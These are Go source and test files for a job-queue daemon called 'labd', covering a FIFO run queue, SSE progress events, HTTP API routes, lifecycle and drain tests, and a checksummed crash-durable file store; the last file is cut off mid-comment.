			rec.Body.Close()
			if !strings.Contains(string(recBody), `"status": "done"`) {
				fail("record not done after stream close: %q", recBody)
				return
			}
			art, err := http.Get(base + "/v1/runs/" + id + "/artifact")
			if err != nil {
				fail("artifact: %v", err)
				return
			}
			artBody, _ := io.ReadAll(art.Body)
			art.Body.Close()

			spec, _ := artifact.Get("labd-t-ok")
			renderer, _ := artifact.RendererFor("json")
			_, rendered, err := artifact.RunRendered(spec, runner.New(1),
				map[string]int{"labd-n": c + 1, "labd-seed": c + 2}, renderer)
			if err != nil {
				fail("batch render: %v", err)
				return
			}
			if !bytes.Equal(artBody, rendered) {
				fail("artifact diverges from batch render")
			}
		}(c)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := srv.Close(ctx); err != nil {
		t.Fatalf("drain after load: %v", err)
	}
}

// runIDFromJSON pulls the "id" field out of an enqueue response without
// a full decode (the concurrent clients stay dependency-light).
func runIDFromJSON(s string) string {
	const key = `"id": "`
	i := strings.Index(s, key)
	if i < 0 {
		return ""
	}
	rest := s[i+len(key):]
	j := strings.IndexByte(rest, '"')
	if j < 0 {
		return ""
	}
	return rest[:j]
}
