package labd

import "sync"

// fifo is an unbounded first-in-first-out queue of run IDs with
// blocking pop and close semantics. Enqueue order is service order:
// the fleet goroutines pop strictly in push order (what makes the
// daemon's scheduling observable and testable), and Close wakes every
// blocked popper so a draining daemon's fleets exit cleanly while
// still-queued runs stay durably "queued" in the store for the next
// process to resume.
type fifo struct {
	mu     sync.Mutex
	cond   *sync.Cond
	items  []string
	closed bool
}

func newFIFO() *fifo {
	q := &fifo{}
	q.cond = sync.NewCond(&q.mu)
	return q
}

// Push appends an ID. Pushing to a closed queue is a no-op: the run is
// already durable in the store, and the next daemon re-enqueues it.
func (q *fifo) Push(id string) {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return
	}
	q.items = append(q.items, id)
	q.cond.Signal()
}

// Pop blocks until an ID is available or the queue is closed; the
// second return is false once the queue is closed and drained of
// nothing — closed queues stop handing out work immediately even if
// items remain, because a draining daemon must not start new runs.
func (q *fifo) Pop() (string, bool) {
	q.mu.Lock()
	defer q.mu.Unlock()
	for len(q.items) == 0 && !q.closed {
		q.cond.Wait()
	}
	if q.closed {
		return "", false
	}
	id := q.items[0]
	q.items = q.items[1:]
	return id, true
}

// Close stops the queue: blocked and future Pops return false.
func (q *fifo) Close() {
	q.mu.Lock()
	defer q.mu.Unlock()
	q.closed = true
	q.cond.Broadcast()
}

// Len reports how many IDs are waiting.
func (q *fifo) Len() int {
	q.mu.Lock()
	defer q.mu.Unlock()
	return len(q.items)
}
