package labd

import (
	"encoding/json"
	"time"
)

// Event is one progress notification on a run's stream: the run's ID
// plus the lifecycle stage it entered. The SSE wire form is derived
// from the durable Record.Stages, so a stream replayed after a daemon
// restart carries exactly the bytes a live subscriber saw.
type Event struct {
	Run    string    `json:"run"`
	Stage  Status    `json:"stage"`
	At     time.Time `json:"at"`
	Detail string    `json:"detail,omitempty"`
}

// AppendSSE encodes one event in Server-Sent Events framing:
//
//	event: <stage>
//	data: {"run":...,"stage":...,"at":...}
//	<blank line>
//
// The same encoder produces both the live net/http stream and the
// snapshot body the transport-independent Route returns, which is what
// makes the two byte-comparable.
func AppendSSE(dst []byte, ev Event) []byte {
	dst = append(dst, "event: "...)
	dst = append(dst, ev.Stage...)
	dst = append(dst, "\ndata: "...)
	b, err := json.Marshal(ev)
	if err != nil {
		// Event is plain data; this cannot fail at runtime.
		panic("labd: encode event: " + err.Error())
	}
	dst = append(dst, b...)
	return append(dst, '\n', '\n')
}

// eventsFromStages derives the event stream from a record's durable
// stage trail.
func eventsFromStages(id string, stages []Stage) []Event {
	out := make([]Event, len(stages))
	for i, st := range stages {
		out[i] = Event{Run: id, Stage: st.Stage, At: st.At, Detail: st.Detail}
	}
	return out
}

// maxStages bounds a run's typical lifecycle length (queued, running,
// up to a handful of retrying entries, rendering, done/failed);
// subscriber channels are buffered to it so a stage append never blocks
// on a slow consumer. Pathological retry configurations past the buffer
// degrade to dropped live events, never to a blocked fleet.
const maxStages = 12

// subscribers tracks live event channels per run. All methods are
// called with the server's mutex held.
type subscribers map[string][]chan Event

func (s subscribers) add(id string, ch chan Event) {
	s[id] = append(s[id], ch)
}

func (s subscribers) publish(id string, ev Event) {
	for _, ch := range s[id] {
		// Buffered to maxStages and stages are bounded, so this never
		// blocks; the guard is belt-and-braces against a logic bug.
		select {
		case ch <- ev:
		default:
		}
	}
	if ev.Stage.Terminal() {
		for _, ch := range s[id] {
			close(ch)
		}
		delete(s, id)
	}
}
