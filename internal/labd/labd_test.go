package labd_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/labd"
	"masterparasite/internal/runner"
)

// ---- test specs -----------------------------------------------------
//
// The registry is global to the test binary, so the labd tests register
// a handful of tiny purpose-built specs once: a fast deterministic
// artifact, a failing one, one that traces execution order, and one
// that blocks until released (drain tests).

type kvDataset []struct {
	Name  string `json:"name"`
	Value int    `json:"value"`
}

func (d kvDataset) Table() (header []string, rows [][]string) {
	header = []string{"name", "value"}
	for _, r := range d {
		rows = append(rows, []string{r.Name, fmt.Sprint(r.Value)})
	}
	return header, rows
}

var (
	traceMu  sync.Mutex
	traceLog []int

	blockMu sync.Mutex
	blockCh = make(chan struct{}) // closed to release labd-t-block runs
)

// resetBlock arms a fresh gate for labd-t-block runs and returns the
// release function (safe across -count=N reruns of the test binary).
func resetBlock() (release func()) {
	blockMu.Lock()
	defer blockMu.Unlock()
	ch := make(chan struct{})
	blockCh = ch
	var once sync.Once
	return func() { once.Do(func() { close(ch) }) }
}

func blockGate() chan struct{} {
	blockMu.Lock()
	defer blockMu.Unlock()
	return blockCh
}

func init() {
	artifact.MustRegister(artifact.Spec{
		ID: "labd-t-ok", Title: "labd test artifact", Section: "test",
		Seed: 11, Deterministic: true,
		Params: []artifact.Param{
			{Name: "labd-n", Usage: "row count", Default: 3, Min: 1},
			{Name: "labd-seed", Usage: "value seed", Default: 1, Min: 1},
		},
		Run: func(env artifact.Env) (*artifact.Result, error) {
			n, seed := env.Param("labd-n"), env.Param("labd-seed")
			var d kvDataset
			var text strings.Builder
			for i := 0; i < n; i++ {
				v := (i + 1) * seed
				d = append(d, struct {
					Name  string `json:"name"`
					Value int    `json:"value"`
				}{Name: fmt.Sprintf("row%d", i), Value: v})
				fmt.Fprintf(&text, "row%d = %d\n", i, v)
			}
			return &artifact.Result{Text: text.String(), Dataset: d}, nil
		},
	})
	artifact.MustRegister(artifact.Spec{
		ID: "labd-t-err", Title: "labd failing artifact", Section: "test",
		Run: func(artifact.Env) (*artifact.Result, error) {
			return nil, errors.New("scenario exploded")
		},
	})
	artifact.MustRegister(artifact.Spec{
		ID: "labd-t-trace", Title: "labd order tracer", Section: "test",
		Params: []artifact.Param{{Name: "labd-k", Usage: "trace tag", Default: 0, Min: 0}},
		Run: func(env artifact.Env) (*artifact.Result, error) {
			traceMu.Lock()
			traceLog = append(traceLog, env.Param("labd-k"))
			traceMu.Unlock()
			return &artifact.Result{Text: "traced\n", Dataset: kvDataset{}}, nil
		},
	})
	artifact.MustRegister(artifact.Spec{
		ID: "labd-t-block", Title: "labd blocking artifact", Section: "test",
		Run: func(artifact.Env) (*artifact.Result, error) {
			<-blockGate()
			return &artifact.Result{Text: "released\n", Dataset: kvDataset{}}, nil
		},
	})
}

// fakeClock returns a deterministic strictly-increasing clock starting
// at a fixed instant, so stage timestamps (and therefore record and
// event bytes) are identical across servers driving identical request
// sequences.
func fakeClock() func() time.Time {
	base := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	var ticks atomic.Int64
	return func() time.Time {
		return base.Add(time.Duration(ticks.Add(1)) * time.Millisecond)
	}
}

func openServer(t *testing.T, cfg labd.Config) *labd.Server {
	t.Helper()
	if cfg.StoreDir == "" {
		cfg.StoreDir = t.TempDir()
	}
	if cfg.Now == nil {
		cfg.Now = fakeClock()
	}
	srv, err := labd.Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		_ = srv.Close(ctx)
	})
	return srv
}

func waitDone(t *testing.T, srv *labd.Server, id string) *labd.Record {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	rec, err := srv.Wait(ctx, id)
	if err != nil {
		t.Fatalf("wait %s: %v", id, err)
	}
	return rec
}

// ---- lifecycle ------------------------------------------------------

func TestRunLifecycleMatchesBatchCLI(t *testing.T) {
	t.Parallel()
	srv := openServer(t, labd.Config{Workers: 1})
	rec, err := srv.Enqueue(labd.EnqueueRequest{
		Spec: "labd-t-ok", Params: map[string]int{"labd-n": 5}, Format: "json",
	})
	if err != nil {
		t.Fatal(err)
	}
	if rec.ID != "run-000001" || rec.Status != labd.StatusQueued {
		t.Fatalf("enqueue record: %+v", rec)
	}
	if rec.Params["labd-n"] != 5 || rec.Params["labd-seed"] != 1 {
		t.Fatalf("params not resolved against defaults: %v", rec.Params)
	}

	final := waitDone(t, srv, rec.ID)
	if final.Status != labd.StatusDone {
		t.Fatalf("status = %s (error %q)", final.Status, final.Error)
	}
	var stages []labd.Status
	for _, st := range final.Stages {
		stages = append(stages, st.Stage)
	}
	want := []labd.Status{labd.StatusQueued, labd.StatusRunning, labd.StatusRendering, labd.StatusDone}
	if fmt.Sprint(stages) != fmt.Sprint(want) {
		t.Fatalf("stages = %v, want %v", stages, want)
	}
	for i := 1; i < len(final.Stages); i++ {
		if final.Stages[i].At.Before(final.Stages[i-1].At) {
			t.Fatalf("stage timestamps not monotonic: %+v", final.Stages)
		}
	}

	// The served fingerprint must equal the batch CLI's manifest entry
	// for the same spec, params, and format.
	spec, _ := artifact.Get("labd-t-ok")
	renderer, _ := artifact.RendererFor("json")
	res, rendered, err := artifact.RunRendered(spec, runner.New(1), map[string]int{"labd-n": 5}, renderer)
	if err != nil {
		t.Fatal(err)
	}
	manifest := artifact.NewManifest("json", 1)
	manifest.Add(spec, res, rendered)
	if got, want := final.SHA256, manifest.Artifacts[0].SHA256; got != want {
		t.Fatalf("served fingerprint %s != batch manifest %s", got, want)
	}
	body, _, err := srv.Artifact(rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	if string(body) != string(rendered) {
		t.Fatalf("served artifact diverges from batch render:\n%s\nvs\n%s", body, rendered)
	}
	if final.Bytes != len(rendered) {
		t.Fatalf("record bytes = %d, want %d", final.Bytes, len(rendered))
	}
}

func TestFailedRunLatchesError(t *testing.T) {
	t.Parallel()
	srv := openServer(t, labd.Config{})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-err"})
	if err != nil {
		t.Fatal(err)
	}
	final := waitDone(t, srv, rec.ID)
	if final.Status != labd.StatusFailed || !strings.Contains(final.Error, "scenario exploded") {
		t.Fatalf("final = %+v", final)
	}
	if _, _, err := srv.Artifact(rec.ID); err == nil {
		t.Fatal("artifact fetch of a failed run succeeded")
	}
}

func TestEnqueueValidatesUpFront(t *testing.T) {
	t.Parallel()
	srv := openServer(t, labd.Config{})
	cases := []struct {
		name string
		req  labd.EnqueueRequest
		want string
	}{
		{"unknown spec", labd.EnqueueRequest{Spec: "nope"}, "unknown spec"},
		{"undeclared param", labd.EnqueueRequest{Spec: "labd-t-ok", Params: map[string]int{"bogus": 1}}, "declares no param"},
		{"below minimum", labd.EnqueueRequest{Spec: "labd-t-ok", Params: map[string]int{"labd-n": 0}}, "below minimum"},
		{"bad format", labd.EnqueueRequest{Spec: "labd-t-ok", Format: "xml"}, "unknown format"},
		{"seed without seed param", labd.EnqueueRequest{Spec: "labd-t-err", Seed: 9}, "declares no seed param"},
	}
	for _, c := range cases {
		if _, err := srv.Enqueue(c.req); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: err = %v, want containing %q", c.name, err, c.want)
		}
	}
	if n := len(srv.List()); n != 0 {
		t.Fatalf("invalid requests left %d records behind", n)
	}
}

func TestFIFOOrderSingleFleet(t *testing.T) {
	// Not parallel: owns the shared trace log.
	traceMu.Lock()
	traceLog = nil
	traceMu.Unlock()
	srv := openServer(t, labd.Config{Fleets: 1})
	const n = 6
	var last string
	for k := 1; k <= n; k++ {
		rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-trace", Params: map[string]int{"labd-k": k}})
		if err != nil {
			t.Fatal(err)
		}
		last = rec.ID
	}
	waitDone(t, srv, last)
	traceMu.Lock()
	defer traceMu.Unlock()
	if len(traceLog) != n {
		t.Fatalf("executed %d runs, want %d", len(traceLog), n)
	}
	for i, k := range traceLog {
		if k != i+1 {
			t.Fatalf("execution order %v is not FIFO", traceLog)
		}
	}
}

func TestDrainRejectsNewWorkAndTimesOutOnStuckRuns(t *testing.T) {
	// Not parallel: owns the block gate.
	release := resetBlock()
	defer release()
	srv := openServer(t, labd.Config{Fleets: 1})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-block"})
	if err != nil {
		t.Fatal(err)
	}
	// Wait until the run is actually in flight.
	deadline := time.Now().Add(10 * time.Second)
	for {
		r, _ := srv.Get(rec.ID)
		if r.Status == labd.StatusRunning {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("run never started: %+v", r)
		}
		time.Sleep(time.Millisecond)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	err = srv.Close(ctx)
	cancel()
	if err == nil {
		t.Fatal("drain with a stuck run returned nil before the run finished")
	}
	if srv.Ready() {
		t.Fatal("server still ready while draining")
	}
	if _, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"}); err == nil || !strings.Contains(err.Error(), "draining") {
		t.Fatalf("enqueue while draining: err = %v", err)
	}
	status, _, body := srv.Route("GET", "/readyz", nil, nil)
	if status != 503 || !strings.Contains(string(body), "draining") {
		t.Fatalf("readyz while draining = %d %q", status, body)
	}

	// Release the run; a second Close must now drain cleanly.
	release()
	ctx2, cancel2 := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel2()
	if err := srv.Close(ctx2); err != nil {
		t.Fatalf("drain after release: %v", err)
	}
	final := waitDone(t, srv, rec.ID)
	if final.Status != labd.StatusDone {
		t.Fatalf("in-flight run did not finish during drain: %+v", final)
	}
}
