package labd

import (
	"encoding/json"
	"net/http"
	"strings"

	"masterparasite/internal/artifact"
)

// API content types.
const (
	jsonContentType  = "application/json"
	plainContentType = "text/plain; charset=utf-8"
	sseContentType   = "text/event-stream"
)

// artifactContentType maps a render format to the content type the
// artifact endpoint serves it under.
func artifactContentType(format string) string {
	switch format {
	case "json":
		return jsonContentType
	case "csv":
		return "text/csv; charset=utf-8"
	case "md", "markdown":
		return "text/markdown; charset=utf-8"
	default:
		return plainContentType
	}
}

// Route dispatches one API request, appending the response body to dst
// (whose capacity is reused). It is the transport-independent core
// shared by the in-process Client, the httpsim Adapter, and ServeHTTP —
// the same bytes flow through all three. Routes:
//
//	GET  /healthz                 → liveness ("ok")
//	GET  /readyz                  → readiness (503 while draining)
//	GET  /v1/specs                → artifact.Summaries() as JSON
//	GET  /v1/specs/{id}           → one spec summary
//	POST /v1/runs                 → enqueue (EnqueueRequest body), 202 + Record
//	GET  /v1/runs                 → every run record, enqueue order
//	GET  /v1/runs/{id}            → one run record
//	GET  /v1/runs/{id}/artifact   → rendered artifact bytes (done runs)
//	GET  /v1/runs/{id}/events     → recorded progress events, SSE-framed
//
// The events route returns the stage trail recorded so far as a
// complete SSE-framed body; over real net/http, ServeHTTP upgrades the
// same route to a live stream whose total bytes — once the run is
// terminal — equal this snapshot exactly.
func (s *Server) Route(method, path string, body []byte, dst []byte) (status int, contentType string, respBody []byte) {
	p := strings.Trim(path, "/")
	switch {
	case p == "healthz":
		return s.routeHealthz(method, dst)
	case p == "readyz":
		return s.routeReadyz(method, dst)
	case p == "v1/specs":
		return s.routeSpecs(method, dst)
	case strings.HasPrefix(p, "v1/specs/"):
		return s.routeSpec(method, strings.TrimPrefix(p, "v1/specs/"), dst)
	case p == "v1/runs":
		return s.routeRuns(method, body, dst)
	case strings.HasPrefix(p, "v1/runs/"):
		rest := strings.TrimPrefix(p, "v1/runs/")
		id, sub, _ := strings.Cut(rest, "/")
		switch sub {
		case "":
			return s.routeRun(method, id, dst)
		case "artifact":
			return s.routeArtifact(method, id, dst)
		case "events":
			return s.routeEvents(method, id, dst)
		}
	}
	return errBody(dst, http.StatusNotFound, "404 page not found")
}

// errBody renders a small text body the way http.Error spells errors
// on the wire (it also serves the healthz/readyz "ok").
func errBody(dst []byte, status int, msg string) (int, string, []byte) {
	dst = append(dst, msg...)
	return status, plainContentType, append(dst, '\n')
}

// jsonBody marshals v as the response body (indented, trailing
// newline — the same framing the manifest file uses).
func jsonBody(dst []byte, status int, v any) (int, string, []byte) {
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		return errBody(dst, http.StatusInternalServerError, err.Error())
	}
	dst = append(dst, b...)
	return status, jsonContentType, append(dst, '\n')
}

func methodNotAllowed(dst []byte) (int, string, []byte) {
	return errBody(dst, http.StatusMethodNotAllowed, "method not allowed")
}

func (s *Server) routeHealthz(method string, dst []byte) (int, string, []byte) {
	if method != http.MethodGet {
		return methodNotAllowed(dst)
	}
	return errBody(dst, http.StatusOK, "ok")
}

func (s *Server) routeReadyz(method string, dst []byte) (int, string, []byte) {
	if method != http.MethodGet {
		return methodNotAllowed(dst)
	}
	if !s.Ready() {
		return errBody(dst, http.StatusServiceUnavailable, "draining")
	}
	return errBody(dst, http.StatusOK, "ok")
}

func (s *Server) routeSpecs(method string, dst []byte) (int, string, []byte) {
	if method != http.MethodGet {
		return methodNotAllowed(dst)
	}
	return jsonBody(dst, http.StatusOK, artifact.Summaries())
}

func (s *Server) routeSpec(method, id string, dst []byte) (int, string, []byte) {
	if method != http.MethodGet {
		return methodNotAllowed(dst)
	}
	spec, ok := artifact.Get(id)
	if !ok {
		return errBody(dst, http.StatusNotFound, "unknown spec "+id)
	}
	return jsonBody(dst, http.StatusOK, spec.Summary())
}

func (s *Server) routeRuns(method string, body, dst []byte) (int, string, []byte) {
	switch method {
	case http.MethodGet:
		return jsonBody(dst, http.StatusOK, s.List())
	case http.MethodPost:
		var req EnqueueRequest
		if err := json.Unmarshal(body, &req); err != nil {
			return errBody(dst, http.StatusBadRequest, "bad request body: "+err.Error())
		}
		rec, err := s.Enqueue(req)
		if err != nil {
			if s.draining.Load() {
				return errBody(dst, http.StatusServiceUnavailable, err.Error())
			}
			return errBody(dst, http.StatusBadRequest, err.Error())
		}
		return jsonBody(dst, http.StatusAccepted, rec)
	default:
		return methodNotAllowed(dst)
	}
}

func (s *Server) routeRun(method, id string, dst []byte) (int, string, []byte) {
	if method != http.MethodGet {
		return methodNotAllowed(dst)
	}
	rec, ok := s.Get(id)
	if !ok {
		return errBody(dst, http.StatusNotFound, "unknown run "+id)
	}
	return jsonBody(dst, http.StatusOK, rec)
}

func (s *Server) routeArtifact(method, id string, dst []byte) (int, string, []byte) {
	if method != http.MethodGet {
		return methodNotAllowed(dst)
	}
	b, rec, err := s.Artifact(id)
	if err != nil {
		if rec == nil {
			return errBody(dst, http.StatusNotFound, err.Error())
		}
		return errBody(dst, http.StatusConflict, err.Error())
	}
	return http.StatusOK, artifactContentType(rec.Format), append(dst, b...)
}

func (s *Server) routeEvents(method, id string, dst []byte) (int, string, []byte) {
	if method != http.MethodGet {
		return methodNotAllowed(dst)
	}
	rec, ok := s.Get(id)
	if !ok {
		return errBody(dst, http.StatusNotFound, "unknown run "+id)
	}
	for _, ev := range eventsFromStages(id, rec.Stages) {
		dst = AppendSSE(dst, ev)
	}
	return http.StatusOK, sseContentType, dst
}

// SetResponseHeaders applies the API's response-header policy via set.
// Like cnc.SetResponseHeaders it is the single source of truth shared
// by ServeHTTP and the httpsim Adapter, so the transports cannot
// silently diverge on the wire: run state must never be cached, and
// error bodies are never sniffed.
func SetResponseHeaders(status int, contentType string, set func(key, value string)) {
	set("Content-Type", contentType)
	set("Cache-Control", "no-store")
	if status >= 400 {
		set("X-Content-Type-Options", "nosniff")
	}
}
