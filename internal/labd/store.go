package labd

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"masterparasite/internal/chaos"
)

// Store persists run records, rendered artifacts, and run checkpoints
// in a directory, one run per file set:
//
//	<dir>/run-000042.json  — the Record (indented JSON + checksum trailer)
//	<dir>/run-000042.out   — the rendered artifact bytes (once done)
//	<dir>/run-000042.ckpt  — the chunk checkpoint (while a resumable run executes)
//
// # Durability contract
//
// Every file is committed through writeAtomic: write to a
// same-directory ".tmp" path, fsync the tmp file, rename it into
// place, fsync the directory. After writeAtomic returns nil the bytes
// are crash-durable — they survive a process kill or power loss — and
// a reader never observes a partial file under the final name. A crash
// anywhere before the rename leaves only a ".tmp" (swept on recovery);
// a crash after it leaves the complete new file.
//
// # Integrity
//
// Record and checkpoint files carry a trailing "sha256:<hex>" line
// over their body. Load verifies it: a file that is torn, truncated,
// or undecodable is quarantined — renamed to "<name>.corrupt" — and
// recovery continues with the rest, instead of aborting the daemon.
// Quarantined run files still pin their sequence numbers, so a
// corrupted record can never cause a run ID to be reissued.
//
// The Store does no run-level locking; the Server serialises writes
// per run (each run is owned by exactly one fleet goroutine after
// enqueue). All filesystem access goes through an injectable chaos.FS,
// which is how the chaos harness delivers short writes, failed
// renames, ENOSPC, fsync errors, and kill-points into every one of
// these paths.
type Store struct {
	dir string
	fs  chaos.FS

	mu          sync.Mutex
	maxSeq      int      // highest run sequence seen on disk, incl. quarantined files
	quarantined []string // files Load moved aside as .corrupt
}

// OpenStore creates the directory if needed and returns a store on it,
// backed by the real filesystem (chaos.OS — instrumented, zero-cost
// while no chaos controller is enabled).
func OpenStore(dir string) (*Store, error) {
	return OpenStoreFS(dir, chaos.OS)
}

// OpenStoreFS is OpenStore with an explicit filesystem — the seam the
// chaos harness injects faults through.
func OpenStoreFS(dir string, fsys chaos.FS) (*Store, error) {
	if dir == "" {
		return nil, fmt.Errorf("labd: store directory must be set")
	}
	if fsys == nil {
		fsys = chaos.OS
	}
	if err := fsys.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("labd store: %w", err)
	}
	return &Store{dir: dir, fs: fsys}, nil
}

// Dir returns the store's directory.
func (s *Store) Dir() string { return s.dir }

func (s *Store) recordPath(id string) string     { return filepath.Join(s.dir, id+".json") }
func (s *Store) artifactPath(id string) string   { return filepath.Join(s.dir, id+".out") }
func (s *Store) checkpointPath(id string) string { return filepath.Join(s.dir, id+".ckpt") }

// writeAtomic commits data to path with the full durability chain:
// tmp write → fsync(tmp) → rename → fsync(dir). See the Store doc
// comment for the contract this buys.
func (s *Store) writeAtomic(path string, data []byte) error {
	tmp := path + ".tmp"
	if err := s.fs.WriteFile(tmp, data, 0o644); err != nil {
		return err
	}
	if err := s.fs.Sync(tmp); err != nil {
		return err
	}
	if err := s.fs.Rename(tmp, path); err != nil {
		return err
	}
	return s.fs.SyncDir(s.dir)
}

// sealTrailerLen is len("sha256:") + 64 hex digits + newline.
const sealTrailerLen = 7 + sha256.Size*2 + 1

// seal appends the integrity trailer — one "sha256:<hex>\n" line over
// body — producing the on-disk form of record and checkpoint files.
func seal(body []byte) []byte {
	sum := sha256.Sum256(body)
	out := make([]byte, 0, len(body)+sealTrailerLen)
	out = append(out, body...)
	out = append(out, "sha256:"...)
	out = hex.AppendEncode(out, sum[:])
	return append(out, '\n')
}

// unseal verifies and strips the integrity trailer. Files without a
// trailer (written before checksums existed) pass through unchanged —
// their decodability is the only check available. A present-but-wrong
// trailer, or a trailer over mismatching bytes, is corruption.
func unseal(data []byte) ([]byte, error) {
	if len(data) < sealTrailerLen {
		if bytes.HasPrefix(bytes.TrimSpace(data), []byte("sha256:")) {
			return nil, fmt.Errorf("truncated checksum trailer")
		}
		return data, nil
	}
	trailer := data[len(data)-sealTrailerLen:]
	if !bytes.HasPrefix(trailer, []byte("sha256:")) || trailer[sealTrailerLen-1] != '\n' {
		return data, nil // legacy file, no trailer
	}
	body := data[:len(data)-sealTrailerLen]
	sum := sha256.Sum256(body)
	want := trailer[7 : sealTrailerLen-1]
	if !bytes.Equal([]byte(hex.EncodeToString(sum[:])), want) {
		return nil, fmt.Errorf("checksum mismatch: body does not hash to %s", want)
	}
	return body, nil
}

// PutRecord durably writes one run record.
func (s *Store) PutRecord(r *Record) error {
	if err := s.writeAtomic(s.recordPath(r.ID), seal(encodeRecord(r))); err != nil {
		return fmt.Errorf("labd store: record %s: %w", r.ID, err)
	}
	return nil
}

// PutArtifact durably writes a run's rendered artifact bytes. Artifact
// files are stored raw — the bytes served must be exactly the bytes
// rendered — so their integrity check is the SHA-256 fingerprint on
// the run record, not an in-file trailer.
func (s *Store) PutArtifact(id string, rendered []byte) error {
	if err := s.writeAtomic(s.artifactPath(id), rendered); err != nil {
		return fmt.Errorf("labd store: artifact %s: %w", id, err)
	}
	return nil
}

// GetArtifact reads a run's rendered artifact bytes.
func (s *Store) GetArtifact(id string) ([]byte, error) {
	b, err := s.fs.ReadFile(s.artifactPath(id))
	if err != nil {
		return nil, fmt.Errorf("labd store: artifact %s: %w", id, err)
	}
	return b, nil
}

// Load reads every record in the directory, sorted by run ID (IDs are
// zero-padded, so lexicographic order is enqueue order).
//
// Recovery is tolerant of debris but strict about I/O: leftover ".tmp"
// files from a crash mid-write are removed; record files that fail the
// checksum or do not decode are quarantined to "<name>.corrupt" and
// skipped (Quarantined reports them) so one torn record cannot take
// the daemon down; but a genuine read error aborts Load — skipping a
// record that exists and cannot be read would silently lose runs.
func (s *Store) Load() ([]*Record, error) {
	entries, err := s.fs.ReadDir(s.dir)
	if err != nil {
		return nil, fmt.Errorf("labd store: %w", err)
	}
	var recs []*Record
	for _, e := range entries {
		name := e.Name()
		if strings.HasSuffix(name, ".tmp") {
			// An uncommitted write: the rename never happened, so no
			// client was ever told this state existed. Sweep it.
			_ = s.fs.Remove(filepath.Join(s.dir, name))
			continue
		}
		s.noteSeq(name)
		if !strings.HasPrefix(name, "run-") || !strings.HasSuffix(name, ".json") {
			continue
		}
		b, err := s.fs.ReadFile(filepath.Join(s.dir, name))
		if err != nil {
			return nil, fmt.Errorf("labd store: read %s: %w", name, err)
		}
		body, err := unseal(b)
		if err != nil {
			s.quarantine(name)
			continue
		}
		var r Record
		if err := json.Unmarshal(body, &r); err != nil || r.ID == "" {
			s.quarantine(name)
			continue
		}
		recs = append(recs, &r)
	}
	sort.Slice(recs, func(i, j int) bool { return recs[i].ID < recs[j].ID })
	return recs, nil
}

// quarantine moves a corrupt file aside as "<name>.corrupt" so
// recovery can proceed without it and an operator can inspect it.
func (s *Store) quarantine(name string) {
	_ = s.fs.Rename(filepath.Join(s.dir, name), filepath.Join(s.dir, name+".corrupt"))
	s.mu.Lock()
	s.quarantined = append(s.quarantined, name)
	s.mu.Unlock()
}

// Quarantined returns the files Load moved aside as corrupt.
func (s *Store) Quarantined() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.quarantined...)
}

// noteSeq pins the sequence number embedded in any committed run file
// name — including ".corrupt" quarantines and orphaned artifacts — so
// NextSeq can never reissue an ID that was ever acknowledged, even if
// its record is now unreadable. ".tmp" names never get here: an
// uncommitted write was never acknowledged, so its sequence is free.
func (s *Store) noteSeq(name string) {
	var n int
	if _, err := fmt.Sscanf(name, "run-%d.", &n); err == nil {
		s.mu.Lock()
		if n > s.maxSeq {
			s.maxSeq = n
		}
		s.mu.Unlock()
	}
}

// NextSeq returns the next run sequence number after everything Load
// observed on disk — committed records, quarantined corpses, orphaned
// artifacts — so restarts never reuse an acknowledged ID.
func (s *Store) NextSeq() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.maxSeq + 1
}

// NextSeq returns the next run sequence number after every record in
// recs — max existing + 1. Store.NextSeq supersedes it for recovery
// (it also accounts for quarantined files); this form remains for
// callers that only hold decoded records.
func NextSeq(recs []*Record) int {
	next := 1
	for _, r := range recs {
		var n int
		if _, err := fmt.Sscanf(r.ID, "run-%d", &n); err == nil && n >= next {
			next = n + 1
		}
	}
	return next
}

// RunID formats a run sequence number as a stable, sortable run ID.
func RunID(seq int) string { return fmt.Sprintf("run-%06d", seq) }
