package labd

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Store persists run records and rendered artifacts in a directory, one
// run per record file:
//
//	<dir>/run-000042.json  — the Record (indented JSON)
//	<dir>/run-000042.out   — the rendered artifact bytes (once done)
//
// Writes are crash-safe: every file is written to a same-directory
// ".tmp" path and atomically renamed into place, so a record file on
// disk is always a complete JSON document — a crash can lose the very
// latest transition, never corrupt a record. The Store itself does no
// locking; the Server serialises writes per run (each run is owned by
// exactly one fleet goroutine after enqueue).
type Store struct {
	dir string
}

// OpenStore creates the directory if needed and returns a store on it.
func OpenStore(dir string) (*Store, error) {
	if dir == "" {
		return nil, fmt.Errorf("labd: store directory must be set")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("labd store: %w", err)
	}
	return &Store{dir: dir}, nil
}

// Dir returns the store's directory.
func (s *Store) Dir() string { return s.dir }

func (s *Store) recordPath(id string) string   { return filepath.Join(s.dir, id+".json") }
func (s *Store) artifactPath(id string) string { return filepath.Join(s.dir, id+".out") }

// writeAtomic writes data to path via a temporary file and rename, so
